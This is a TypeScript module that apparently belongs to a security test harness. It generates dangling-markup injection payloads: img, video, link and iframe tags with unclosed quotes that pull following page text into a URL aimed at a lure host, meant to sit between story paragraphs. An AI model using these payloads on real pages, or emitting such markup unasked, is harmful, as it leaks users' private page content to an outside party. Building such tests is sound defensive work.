import { cross, lure, type Payload, type Vector } from '../vector.ts';

/** An unclosed quote takes the page's text along into an address; the vector ends the quote itself. */
const DANGLING: Payload[] = [
  { name: 'picture', make: (id) => `<img width=800 height=450 src='${lure(id)}?\n<p>secret words</p>\n'>` },
  {
    name: 'late picture',
    make: (id) => `<img width=800 height=450 data-src='${lure(id)}?\n<p>secret words</p>\n'>`,
  },
  { name: 'poster', make: (id) => `<video poster='${lure(id)}?\n<p>secret words</p>\n'></video>` },
  { name: 'link', make: (id) => `<a href='${lure(id)}?\n<p>secret words</p>\n'>more</a>` },
  {
    name: 'frame',
    make: (id) => `<iframe title=video src='${lure(id)}/video?\n<p>secret words</p>\n'></iframe>`,
  },
];

/** All of them between paragraphs of the story. */
export function danglingVectors(): Vector[] {
  return cross('dangling', 'block', { markup: (payload) => payload }, DANGLING);
}
